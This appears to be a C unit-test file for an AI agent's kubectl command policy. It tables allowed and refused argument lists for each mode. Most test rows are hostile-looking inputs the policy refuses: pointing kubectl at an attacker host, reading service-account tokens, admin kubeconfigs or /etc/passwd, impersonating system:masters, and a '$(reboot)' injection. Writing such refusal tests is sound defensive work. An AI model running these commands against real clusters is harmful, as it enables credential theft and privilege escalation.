/* test_agent_policy.c — the agent's command policy (agent/policy.c): a table
 * of kubectl argv → allowed / refused for each mode, including flag orders
 * that hide the verb, argument-level escapes, plugins and the lists. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <cjson/cJSON.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "argv.h"
#include "policy.h"

enum { RO, RW, CG, CX, NPOL };
static agent_policy pol[NPOL];
static const char *const pol_name[NPOL] = {"readonly", "readwrite", "custom(get)",
                                           "custom(mixed)"};

static int setup(void **state)
{
    char err[256];
    if (agent_policy_init(&pol[RO], NULL, NULL, NULL, err, sizeof(err)) ||
        agent_policy_init(&pol[RW], "readwrite", NULL, "drain, delete", err, sizeof(err)) ||
        agent_policy_init(&pol[CG], "custom", "get", "", err, sizeof(err)) ||
        agent_policy_init(&pol[CX], "custom",
                          "@readonly, rollout restart, Scale, my-plugin, exec",
                          "rollout history, events", err, sizeof(err))) {
        fprintf(stderr, "setup: %s\n", err);
        return -1;
    }
    return 0;
}

static int teardown(void **state)
{
    for (int i = 0; i < NPOL; i++)
        agent_policy_free(&pol[i]);
    return 0;
}

/* one row: the command (shell-style words, tokenized with common/argv) and the
 * expected verdict per policy: 'a' allowed, 'd' denied, '-' not checked */
typedef struct {
    const char *cmd;
    const char verdict[NPOL + 1];
    const char *reason; /* substring of the refusal for RO (when denied), or NULL */
} row;

static const row rows[] = {
    /*                                              RO RW CG CX */
    /* plain reads */
    {"get pods", "aaaa", NULL},
    {"get pods -n prod -o wide", "aaaa", NULL},
    {"get pods -A --watch", "aaaa", NULL},
    {"get --raw /api/v1/namespaces", "aaaa", NULL},
    {"get --raw=/fixture/echo?text=x", "aaaa", NULL},
    {"describe pod x", "aada", NULL},
    {"logs x -f --tail=10", "aada", NULL},
    {"logs -f x", "aada", NULL},
    {"logs -fp x -c main", "aada", NULL},
    {"top pod", "aada", NULL},
    {"top", "aada", NULL},
    {"explain pods.spec", "aada", NULL},
    {"api-resources", "aada", NULL},
    {"api-versions", "aada", NULL},
    {"version", "aada", NULL},
    {"version --client -o yaml", "aada", NULL},
    {"cluster-info", "aada", NULL},
    {"cluster-info dump", "aada", NULL},
    {"events -n prod", "aadd", NULL},
    {"wait --for=condition=Ready pod/x", "aada", NULL},
    {"auth can-i list pods", "aada", NULL},
    {"auth whoami", "aada", NULL},
    {"rollout status deploy/x", "aada", NULL},
    {"rollout history deploy/x", "aadd", NULL},
    {"apply view-last-applied deploy/x", "aada", NULL},
    {"plugin list", "aada", NULL},
    {"help", "aada", NULL},
    {"help delete", "aada", NULL},
    {"completion bash", "aada", NULL},
    {"options", "aada", NULL},
    /* global flags before the verb, every form */
    {"-n prod get pods", "aaaa", NULL},
    {"-nprod get pods", "aaaa", NULL},
    {"-n=prod get pods", "aaaa", NULL},
    {"--namespace prod get pods", "aaaa", NULL},
    {"--namespace=prod get pods", "aaaa", NULL},
    {"-v 6 get pods", "aaaa", NULL},
    {"-v=6 --request-timeout 5s get pods", "aaaa", NULL},
    {"--warnings-as-errors get pods", "aaaa", NULL},
    {"--match-server-version=false get pods", "aaaa", NULL},
    {"--cache-dir /tmp/c get pods", "dadd", "--cache-dir"},
    /* writes, with the verb hidden behind flags */
    {"delete pod x", "dddd", "not allowed by the agent's readonly policy"},
    {"-n prod delete pod x", "dddd", "kubectl delete is not allowed"},
    {"--namespace=prod exec -it x -- sh", "dada", "kubectl exec is not allowed"},
    {"-n get delete pod x", "dddd", "kubectl delete"},
    {"-v 9 -n prod scale deploy/x --replicas=0", "dada", "scale"},
    {"exec x -- ls", "dada", NULL},
    {"exec -it x -- ls -s /", "dada", NULL},
    {"cp x:/etc/passwd /tmp/p", "dadd", NULL},
    {"attach x", "dadd", NULL},
    {"port-forward x 8080:80", "dadd", NULL},
    {"proxy --port=8001", "dadd", NULL},
    {"edit deploy/x", "dadd", NULL},
    {"patch deploy x -p {}", "dadd", NULL},
    {"apply -f https://example.com/m.yaml", "dadd", NULL},
    {"apply edit-last-applied deploy/x", "dadd", NULL},
    {"apply", "dadd", NULL},
    {"create deployment x --image=nginx", "dadd", NULL},
    {"create -f x.yaml", "dadd", NULL},
    {"run x --image=busybox", "dadd", NULL},
    {"expose deploy x --port 80", "dadd", NULL},
    {"set image deploy/x c=img", "dadd", NULL},
    {"scale deploy/x --replicas=3", "dada", NULL},
    {"autoscale deploy/x --max=3", "dadd", NULL},
    {"drain node-1", "dddd", NULL},
    {"cordon node-1", "dadd", NULL},
    {"uncordon node-1", "dadd", NULL},
    {"taint nodes n k=v:NoSchedule", "dadd", NULL},
    {"label pod x a=b", "dadd", NULL},
    {"annotate pod x a=b", "dadd", NULL},
    {"replace -f x.yaml", "dadd", NULL},
    {"diff -f x.yaml", "dadd", NULL},
    {"kustomize .", "dadd", NULL},
    {"debug node/n -it --image=busybox", "dadd", NULL},
    {"rollout restart deploy/x", "dada", NULL},
    {"rollout undo deploy/x", "dadd", NULL},
    {"rollout pause deploy/x", "dadd", NULL},
    {"auth reconcile -f r.yaml", "dadd", NULL},
    {"certificate approve csr-1", "dadd", NULL},
    {"certificate deny csr-1", "dadd", NULL},
    {"alpha kuberc", "dadd", NULL},
    {"delete --raw /api/v1/namespaces/x", "dddd", NULL},
    /* config: never in readonly, not in readwrite either */
    {"config view", "dddd", "config"},
    {"config view --raw", "dddd", NULL},
    {"config get-contexts", "dddd", NULL},
    {"config use-context other", "dddd", NULL},
    /* argument-level escapes */
    {"get pods --kubeconfig /x", "dddd", "--kubeconfig"},
    {"get pods --kubeconfig=/x", "dddd", "--kubeconfig"},
    {"--kubeconfig /x get pods", "dddd", "--kubeconfig"},
    {"get pods --server https://evil.example", "dddd", "--server"},
    {"get pods -s https://evil.example", "dddd", "-s"},
    {"-s https://evil.example get pods", "dddd", "-s"},
    {"get pods -shttps://evil.example", "dddd", "-s"},
    {"get pods -As https://evil.example", "dddd", "-s"},
    {"get pods --token=abc", "dddd", "--token"},
    {"get pods --username u --password p", "dddd", "--username"},
    {"get pods --insecure-skip-tls-verify", "dddd", "--insecure-skip-tls-verify"},
    {"get pods --certificate-authority=/x", "dddd", NULL},
    {"get pods --client-key /k --client-certificate /c", "dddd", NULL},
    {"get pods --tls-server-name x", "dddd", NULL},
    {"get pods --context other", "dddd", "--context"},
    {"--cluster other get pods", "dddd", NULL},
    {"get pods --user admin", "dddd", NULL},
    {"get pods --as system:admin", "dadd", "impersonation"},
    {"get pods --as=system:admin", "dadd", "impersonation"},
    {"--as-group system:masters get pods", "dadd", "impersonation"},
    {"get pods --as-uid 0", "dadd", NULL},
    {"get -f /var/run/secrets/kubernetes.io/serviceaccount/token", "dadd", "-f"},
    {"get --filename=/etc/passwd", "dadd", "--filename"},
    {"get -k ./overlay", "dadd", "-k"},
    {"get pods -wf x.yaml", "dadd", NULL},
    {"describe -f x.yaml", "dadd", NULL},
    {"get pods -o go-template-file=/etc/passwd", "dadd", "file"},
    {"get pods -ojsonpath-file=/etc/passwd", "dadd", "file"},
    {"get pods -o=custom-columns-file=/etc/passwd", "dadd", "file"},
    {"get pods --output=templatefile --template=/etc/passwd", "dadd", "file"},
    {"get pods --output jsonpath-file=/x", "dadd", "file"},
    {"get pods -o jsonpath={.items[*].metadata.name}", "aaaa", NULL},
    {"get pods -o go-template --template={{.kind}}", "aaaa", NULL},
    {"get pods --profile=cpu --profile-output=/etc/ssl/x", "dadd", "--profile"},
    {"cluster-info dump --output-directory=/tmp/d", "dadd", "--output-directory"},
    {"logs x --insecure-skip-tls-verify-backend", "dadd", NULL},
    /* every flag that names a local path, in both forms (policy.c's table) */
    {"get pods --cache-dir=/etc/cron.d", "dadd", "--cache-dir"},
    {"get pods --cache-dir /etc/cron.d", "dadd", "--cache-dir"},
    {"--cache-dir=/tmp/c get pods", "dadd", "--cache-dir"},
    {"api-resources --cache-dir /var/run/aurora", "dadd", "--cache-dir"},
    {"get pods --kubeconfig=/etc/kubernetes/admin.conf", "dddd", "--kubeconfig"},
    {"get pods --certificate-authority /x", "dddd", "--certificate-authority"},
    {"get pods --client-certificate=/c", "dddd", "--client-certificate"},
    {"get pods --client-certificate /c", "dddd", "--client-certificate"},
    {"get pods --client-key=/k", "dddd", "--client-key"},
    {"get pods --token /var/run/secrets/kubernetes.io/serviceaccount/token", "dddd", "--token"},
    {"get pods --kuberc=/tmp/kuberc", "dddd", "--kuberc"},
    {"get pods --kuberc /tmp/kuberc", "dddd", "--kuberc"},
    {"get -f=/etc/passwd", "dadd", "-f"},
    {"get --filename /etc/passwd", "dadd", "--filename"},
    {"get -f https://evil.example/x.yaml", "dadd", "-f"},
    {"wait --for=delete -f x.yaml", "dadd", "-f"},
    {"rollout status -f x.yaml", "dadd", "-f"},
    {"get --kustomize=./overlay", "dadd", "--kustomize"},
    {"get --kustomize ./overlay", "dadd", "--kustomize"},
    {"get -k=./overlay", "dadd", "-k"},
    {"get pods --template-file=/etc/passwd", "dadd", "--template-file"},
    {"get pods --template-file /etc/passwd", "dadd", "--template-file"},
    {"get pods -o=go-template-file --template=/etc/passwd", "dadd", "file"},
    {"get pods --output=jsonpath-file=/etc/passwd", "dadd", "file"},
    {"get pods -o custom-columns-file=/etc/passwd", "dadd", "file"},
    {"cluster-info dump --output-directory /tmp/d", "dadd", "--output-directory"},
    {"get pods --profile-output /etc/x --profile cpu", "dadd", "--profile-output"},
    {"get pods --log-file=/tmp/l", "dadd", "--log-file"},
    {"get pods --log-file /tmp/l", "dadd", "--log-file"},
    {"get pods --log-dir=/tmp/l", "dadd", "--log-dir"},
    {"get pods --log-dir /tmp/l", "dadd", "--log-dir"},
    {"get pods --log_dir=/tmp/l", "dadd", "--log_dir"},
    {"get pods --log_dir /tmp/l", "dadd", "--log_dir"},
    /* pflag reads '_' as '-': the same flags under another spelling */
    {"get pods --cache_dir=/etc/cron.d", "dadd", "--cache_dir"},
    {"get pods --cache_dir /etc/cron.d", "dadd", "--cache_dir"},
    {"--cache_dir /tmp/c get pods", "dadd", "--cache_dir"},
    {"get pods --client_key=/k", "dddd", "--client_key"},
    {"get pods --certificate_authority /x", "dddd", "--certificate_authority"},
    {"get pods --tls_server_name=x", "dddd", "--tls_server_name"},
    {"get pods --insecure_skip_tls_verify", "dddd", "--insecure_skip_tls_verify"},
    {"get pods --as_group=system:masters", "dadd", "impersonation"},
    {"get pods --as_uid 0", "dadd", "impersonation"},
    {"cluster-info dump --output_directory=/tmp/d", "dadd", "--output_directory"},
    {"get pods --profile_output=/etc/x", "dadd", "--profile_output"},
    {"logs x --insecure_skip_tls_verify_backend", "dadd", NULL},
    {"get pods --request_timeout=5s", "aaaa", NULL},
    {"--request_timeout 5s get pods", "aaaa", NULL},
    /* values that look like flags or verbs */
    {"get pods -l app=delete", "aaaa", NULL},
    {"get pods -lapp=s", "aaaa", NULL},
    {"get pods -n kube-system", "aaaa", NULL},
    {"get pods -nkube-system", "aaaa", NULL},
    {"get pods -c s", "aaaa", NULL},
    /* `--` ends kubectl's flags only in flag position */
    {"exec x -c main -- env --kubeconfig=/x", "dada", NULL},
    {"exec -it x -- ls -s", "dada", NULL},
    {"exec x -c -- --token t", "dddd", NULL},
    {"get pods -l -- --kubeconfig /x", "dddd", "--kubeconfig"},
    /* verb not knowable */
    {"", "dddd", "empty"},
    {"-n prod", "dddd", "only flags"},
    {"--foo get pods", "dddd", "cannot tell"},
    {"-A get pods", "dddd", "cannot tell"},
    {"-- get pods", "dddd", "cannot tell"},
    {"- get pods", "dddd", "cannot tell"},
    {"-n", "dddd", "cannot tell"},
    {"rollout --foo status deploy/x", "dadd", "subcommand"},
    {"rollout -- status", "dadd", NULL},
    /* plugins */
    {"my-plugin do-something", "ddda", "plugins"},
    {"krew install x", "dddd", "plugins"},
    {"get-all", "dddd", NULL},
    {"GET pods", "dddd", NULL},
    {"$(reboot)", "dddd", "not a kubectl command"},
    {"../../bin/sh", "dddd", NULL},
    {"rollout", "aada", NULL},
    {"auth", "aada", NULL},
};

static void check_row(const row *r)
{
    argv_t a;
    memset(&a, 0, sizeof(a));
    char err[128];
    if (*r->cmd && argv_tokenize(r->cmd, &a, err, sizeof(err)) != 0)
        fail_msg("cannot tokenize [%s]: %s", r->cmd, err);
    char problem[600] = "";
    for (int m = 0; m < NPOL && !problem[0]; m++) {
        char want = r->verdict[m];
        if (want == '-')
            continue;
        agent_policy_decision d;
        int got = agent_policy_check(&pol[m], a.c, (const char *const *)a.v, &d);
        if (got != d.allowed)
            snprintf(problem, sizeof(problem), "[%s]: return value and decision differ", r->cmd);
        else if (got != (want == 'a'))
            snprintf(problem, sizeof(problem), "[%s] under %s: expected %s, got %s (%s)", r->cmd,
                     pol_name[m], want == 'a' ? "allowed" : "denied",
                     got ? "allowed" : "denied", got ? "-" : d.reason);
        else if (!got && !d.reason[0])
            snprintf(problem, sizeof(problem), "[%s] under %s: denied without a reason", r->cmd,
                     pol_name[m]);
        else if (!got && m == RO && r->reason && !strstr(d.reason, r->reason))
            snprintf(problem, sizeof(problem),
                     "[%s] under readonly: reason '%s' does not mention '%s'", r->cmd, d.reason,
                     r->reason);
    }
    argv_free(&a);
    if (problem[0])
        fail_msg("%s", problem);
}

static void test_table(void **state)
{
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
        check_row(&rows[i]);
}

static void test_empty_and_null(void **state)
{
    agent_policy_decision d;
    assert_int_equal(agent_policy_check(&pol[RW], 0, NULL, &d), 0);
    assert_non_null(strstr(d.reason, "empty"));
    const char *const v[] = {"get", NULL};
    assert_int_equal(agent_policy_check(&pol[RO], 1, v, &d), 1);
    const char *const holes[] = {"get", NULL, "x"};
    assert_int_equal(agent_policy_check(&pol[RW], 3, holes, &d), 0);
    const char *const emptyarg[] = {"", "get"};
    assert_int_equal(agent_policy_check(&pol[RO], 2, emptyarg, &d), 0);
}

static void test_verb_label(void **state)
{
    agent_policy_decision d;
    const char *const a[] = {"-n", "prod", "rollout", "restart", "deploy/x"};
    assert_int_equal(agent_policy_check(&pol[RO], 5, a, &d), 0);
    assert_string_equal(d.verb, "rollout restart");
    assert_non_null(strstr(d.reason, "kubectl rollout restart"));
    const char *const b[] = {"del\x1b[31mete", "x"};
    assert_int_equal(agent_policy_check(&pol[RO], 2, b, &d), 0);
    assert_null(strchr(d.reason, '\x1b'));
    char longverb[300];
    memset(longverb, 'a', sizeof(longverb) - 1);
    longverb[sizeof(longverb) - 1] = '\0';
    const char *const c[] = {longverb};
    assert_int_equal(agent_policy_check(&pol[RO], 1, c, &d), 0);
    assert_true(strlen(d.verb) < sizeof(d.verb));
}

static void test_deny_wins(void **state)
{
    agent_policy p;
    char err[256];
    assert_int_equal(agent_policy_init(&p, "custom", "*", "delete,rollout restart", err,
                                       sizeof(err)), 0);
    agent_policy_decision d;
    const char *const del[] = {"delete", "pod", "x"};
    assert_int_equal(agent_policy_check(&p, 3, del, &d), 0);
    assert_non_null(strstr(d.reason, "deny list"));
    const char *const rs[] = {"rollout", "restart", "deploy/x"};
    assert_int_equal(agent_policy_check(&p, 3, rs, &d), 0);
    const char *const st[] = {"rollout", "status", "deploy/x"};
    assert_int_equal(agent_policy_check(&p, 3, st, &d), 1);
    /* a subcommand that cannot be determined matches a "verb sub" deny entry */
    const char *const hid[] = {"rollout", "--bogus", "restart", "deploy/x"};
    assert_int_equal(agent_policy_check(&p, 4, hid, &d), 0);
    const char *const ed[] = {"edit", "deploy/x"};
    assert_int_equal(agent_policy_check(&p, 2, ed, &d), 1);
    /* "*" in custom covers built-ins only: plugins must be named */
    const char *const pl[] = {"my-plugin"};
    assert_int_equal(agent_policy_check(&p, 1, pl, &d), 0);
    agent_policy_free(&p);

    /* deny applies in readonly too */
    assert_int_equal(agent_policy_init(&p, "readonly", NULL, "logs", err, sizeof(err)), 0);
    const char *const lg[] = {"logs", "x"};
    assert_int_equal(agent_policy_check(&p, 2, lg, &d), 0);
    const char *const g[] = {"get", "pods"};
    assert_int_equal(agent_policy_check(&p, 2, g, &d), 1);
    agent_policy_free(&p);

    /* deny "*" refuses everything */
    assert_int_equal(agent_policy_init(&p, "readwrite", NULL, "*", err, sizeof(err)), 0);
    assert_int_equal(agent_policy_check(&p, 2, g, &d), 0);
    agent_policy_free(&p);
}

/* kubectl (cobra) runs a subcommand by any of its aliases: `create cm` is
 * `create configmap`, `set sa` is `set serviceaccount`.  A list entry names
 * the command, whichever spelling the server sends (or the entry uses). */
static void test_subcommand_aliases(void **state)
{
    agent_policy p;
    char err[256];
    agent_policy_decision d;
    assert_int_equal(agent_policy_init(&p, "readwrite", NULL,
                                       "create configmap, create deployment, set serviceaccount,"
                                       "create ns",
                                       err, sizeof(err)), 0);
    static const char *const refused[][4] = {
        {"create", "cm", "x", NULL},          {"create", "configmap", "x", NULL},
        {"create", "deploy", "x", NULL},      {"-n", "a", "create", "deploy"},
        {"set", "sa", "deploy/x", "robot"},   {"set", "serviceaccount", "deploy/x", "robot"},
        {"create", "namespace", "x", NULL},   {"create", "ns", "x", NULL},
    };
    for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
        int n = refused[i][3] ? 4 : 3;
        if (agent_policy_check(&p, n, refused[i], &d) != 0)
            fail_msg("%s %s %s allowed despite the deny list", refused[i][0], refused[i][1],
                     refused[i][2]);
        assert_non_null(strstr(d.reason, "deny list"));
    }
    const char *const sec[] = {"create", "secret", "generic", "x"};
    assert_int_equal(agent_policy_check(&p, 4, sec, &d), 1);
    agent_policy_free(&p);

    /* an allow entry covers the aliases too, and an entry may use one */
    assert_int_equal(agent_policy_init(&p, "custom", "create configmap, set sa, top no", NULL, err,
                                       sizeof(err)), 0);
    const char *const cm[] = {"create", "cm", "x"};
    assert_int_equal(agent_policy_check(&p, 3, cm, &d), 1);
    const char *const sa[] = {"set", "serviceaccount", "deploy/x", "robot"};
    assert_int_equal(agent_policy_check(&p, 4, sa, &d), 1);
    const char *const tn[] = {"top", "nodes"};
    assert_int_equal(agent_policy_check(&p, 2, tn, &d), 1);
    const char *const tp[] = {"top", "pods"};
    assert_int_equal(agent_policy_check(&p, 2, tp, &d), 0);
    const char *const dep[] = {"create", "deploy", "x"};
    assert_int_equal(agent_policy_check(&p, 3, dep, &d), 0);
    agent_policy_free(&p);

    /* readonly's deny list too: `top pods` is `top pod` */
    assert_int_equal(agent_policy_init(&p, "readonly", NULL, "top pod", err, sizeof(err)), 0);
    assert_int_equal(agent_policy_check(&p, 2, tp, &d), 0);
    assert_non_null(strstr(d.reason, "deny list"));
    const char *const tpo[] = {"top", "po", "-A"};
    assert_int_equal(agent_policy_check(&p, 3, tpo, &d), 0);
    assert_int_equal(agent_policy_check(&p, 2, tn, &d), 1);
    agent_policy_free(&p);
}

static void test_custom_empty_allows_nothing(void **state)
{
    agent_policy p;
    char err[256];
    assert_int_equal(agent_policy_init(&p, "custom", "", NULL, err, sizeof(err)), 0);
    agent_policy_decision d;
    const char *const g[] = {"get", "pods"};
    assert_int_equal(agent_policy_check(&p, 2, g, &d), 0);
    assert_non_null(strstr(d.reason, "allow list"));
    agent_policy_free(&p);
}

static void expect_init_error(const char *mode, const char *allow, const char *deny,
                              const char *needle)
{
    agent_policy p;
    char err[256] = "";
    if (agent_policy_init(&p, mode, allow, deny, err, sizeof(err)) == 0) {
        agent_policy_free(&p);
        fail_msg("policy (%s, %s, %s) accepted", mode, allow ? allow : "-", deny ? deny : "-");
    }
    if (!strstr(err, needle))
        fail_msg("error '%s' does not mention '%s'", err, needle);
    assert_null(p.allow);
    assert_null(p.deny);
}

static void test_init_errors(void **state)
{
    expect_init_error("admin", NULL, NULL, "readonly, readwrite or custom");
    expect_init_error("custom", "get;rm", NULL, "invalid entry");
    expect_init_error("custom", "rollout status now", NULL, "invalid entry");
    expect_init_error("custom", "get*", NULL, "invalid entry");
    expect_init_error("custom", "get secrets", NULL, "RBAC");
    expect_init_error("custom", "rollout restrat", NULL, "not a subcommand");
    expect_init_error("readonly", NULL, "@readonly", "@readonly");
    expect_init_error("custom", "get", "delete pods", "RBAC");
}

static void test_init_normalises(void **state)
{
    agent_policy p;
    char err[256];
    assert_int_equal(agent_policy_init(&p, "Custom", " Get ,, rollout   Status,get\n describe ",
                                       "", err, sizeof(err)), 0);
    assert_int_equal(p.mode, POLICY_CUSTOM);
    assert_int_equal(p.nallow, 3);
    assert_string_equal(p.allow[0], "get");
    assert_string_equal(p.allow[1], "rollout status");
    assert_string_equal(p.allow[2], "describe");
    assert_int_equal(p.ndeny, 0);
    cJSON *j = agent_policy_json(&p);
    char *s = cJSON_PrintUnformatted(j);
    assert_string_equal(s, "{\"mode\":\"custom\",\"allow\":[\"get\",\"rollout status\","
                           "\"describe\"],\"deny\":[]}");
    free(s);
    cJSON_Delete(j);
    agent_policy_free(&p);

    assert_int_equal(agent_policy_init(&p, "", NULL, NULL, err, sizeof(err)), 0);
    assert_int_equal(p.mode, POLICY_READONLY);
    assert_string_equal(agent_policy_mode_name(p.mode), "readonly");
    agent_policy_free(&p);
    assert_int_equal(agent_policy_init(&p, "READWRITE", NULL, NULL, err, sizeof(err)), 0);
    assert_int_equal(p.mode, POLICY_READWRITE);
    agent_policy_free(&p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_table),
        cmocka_unit_test(test_empty_and_null),
        cmocka_unit_test(test_verb_label),
        cmocka_unit_test(test_deny_wins),
        cmocka_unit_test(test_subcommand_aliases),
        cmocka_unit_test(test_custom_empty_allows_nothing),
        cmocka_unit_test(test_init_errors),
        cmocka_unit_test(test_init_normalises),
    };
    return cmocka_run_group_tests_name("agent_policy", tests, setup, teardown);
}
